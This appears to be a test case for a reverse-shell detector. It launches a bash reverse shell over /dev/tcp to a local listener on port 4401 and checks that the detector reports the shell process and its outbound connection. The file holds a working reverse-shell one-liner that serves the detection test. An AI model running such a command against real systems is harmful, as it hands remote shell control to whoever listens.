# R01: bash on a connection of its own
# stage: behaviour
# expect: reverse_shell_detected
#   detection.reason: ~outbound
#   reverse_shell.process_list.length: 1
#   reverse_shell.process_list.0.process_id: $shell
#   reverse_shell.process_list.0.network_connection_list.0.destination_port: 4401
#   reverse_shell.process_list.0.network_connection_list.0.destination_ip_address: 127.0.0.1

#: prepare
. lib/peers.sh
peer 4401
#: act
. lib/peers.sh
act
bash -c "bash -i >& /dev/tcp/127.0.0.1/4401 0>&1" < /dev/null > /dev/null 2>&1 &
who shell 'bash -i'
await 'at $shell 0 socket:* && same $shell 0 $shell 1 && same $shell 1 $shell 2'
